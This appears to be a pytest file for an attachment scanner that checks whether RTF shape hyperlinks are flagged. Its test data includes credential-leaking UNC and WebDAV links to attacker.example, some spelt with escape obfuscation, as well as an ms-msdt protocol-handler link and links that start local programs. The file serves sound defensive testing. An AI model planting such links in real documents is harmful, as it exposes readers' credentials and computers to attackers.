"""A shape's hyperlink in RTF (red team 106): the ``pihlShape`` shape property, whose value is a
hyperlink group (RTF 1.9.1: ``{\\*\\hl{\\hlloc ...}{\\hlsrc ...}{\\hlfr ...}}``). A click on the
shape follows it; one to a network share sends the reader's Windows credentials there, one to
a protocol handler or a program on the reader's computer starts it: EXTERNAL_LINK, as a .doc
drawing's shape hyperlink is. A link to the web, a mail address or a bookmark passes."""

from __future__ import annotations

import pytest

from attachguard.codes import EXTERNAL_LINK
from attachguard.engines.base import Item, Result
from attachguard.engines.rtf import RtfEngine
from attachguard.policy import Policy
from attachguard.report import FileType

ENGINE = RtfEngine()
LETTER = rb"{\rtf1\ansi{\fonttbl{\f0 Arial;}}\f0 Your order has shipped.\par %s\par}"
SHAPE = (
    rb"{\shp{\*\shpinst\shpleft0\shptop0\shpright2000\shpbottom1000{\sp{\sn shapeType}{\sv 1}}"
    rb"{\sp{\sn pihlShape}{\sv {\*\hl%s}}}{\shptxt Track your order}}}"
)
SHARE = "a shape's hyperlink to a network share in the RTF document"


def scan(body: bytes, policy: Policy) -> Result:
    data = LETTER.replace(b"%s", body)
    item = Item("letter.rtf", data, FileType("rtf", "text/rtf", "text", True))
    return ENGINE.scan(item, policy.context())


def findings(body: bytes, policy: Policy) -> list[tuple[str, str | None, str]]:
    return [(f.code.name, f.label, f.message) for f in scan(body, policy).findings]


def link(source: bytes = b"", location: bytes = b"") -> bytes:
    """A shape whose hyperlink has ``source`` and ``location`` (each left out when empty)."""
    parts = rb"{\hlfr Track order}"
    parts += rb"{\hlsrc %s}" % source if source else b""
    parts += rb"{\hlloc %s}" % location if location else b""
    return SHAPE % parts


@pytest.mark.parametrize(
    "body",
    [
        link(rb"\\\\attacker.example\\s\\x.docx"),
        link(b"file://attacker.example/s/x.docx"),
        link(rb"\\\\attacker.example@SSL\\DavWWWRoot\\x.docx"),
        # the location alone, or after a harmless source
        link(location=rb"\\\\attacker.example\\s\\x.docx"),
        link(b"https://example.com/track", rb"\\\\attacker.example\\s"),
        # spelt with escapes, a \uN with its fallback, an ignorable group inside
        link(rb"\'5c\'5cattacker.example\'5cs\'5cx.docx"),
        link(rb"\u92?\u92?attacker.example\\s\\x.docx"),
        link(rb"\\{\*\junk X}\\attacker.example\\s\\x.docx"),
        # quoted, as Word writes a path with blanks
        link(rb'"\\\\attacker.example\\s\\my file.docx"'),
    ],
)
def test_a_shape_hyperlink_to_a_share(body: bytes, policy: Policy) -> None:
    assert findings(body, policy) == [("EXTERNAL_LINK", "shapeHyperlink", SHARE)]


@pytest.mark.parametrize(
    ("source", "harm"),
    [
        (b"ms-msdt:/id PCWDiagnostic", "a Windows program that acts on its address"),
        (b"file:///C:/Windows/System32/calc.exe", "a program on the reader's own computer"),
        (rb"C:\\Tools\\setup.hta", "a program on the reader's own computer"),
        (b"setup.exe", "a program on the reader's own computer"),
    ],
)
def test_a_shape_hyperlink_that_starts_a_program(source: bytes, harm: str, policy: Policy) -> None:
    message = f"a shape's hyperlink to {harm} in the RTF document"
    assert findings(link(source), policy) == [("EXTERNAL_LINK", "shapeHyperlink", message)]


@pytest.mark.parametrize(
    "body",
    [
        link(b"https://example.com/track"),
        link(b"mailto:orders@example.com"),
        link(b"https://example.com/track", b"details"),
        link(location=b"_Toc123456"),
        link(b"orders.docx"),
        # a share named only by the friendly name (text shown, never followed)
        SHAPE % rb"{\hlfr \\\\attacker.example\\s}{\hlsrc https://example.com/}",
    ],
)
def test_honest_shape_hyperlinks_pass(body: bytes, policy: Policy) -> None:
    assert findings(body, policy) == []


def test_a_hyperlink_group_is_read_without_a_shape_property(policy: Policy) -> None:
    # no \sn to find the document by: the hyperlink's own words are looked for
    body = rb"{\*\hl{\hlsrc \\\\attacker.example\\s\\x.docx}}"
    assert [f.code for f in scan(body, policy).findings] == [EXTERNAL_LINK]
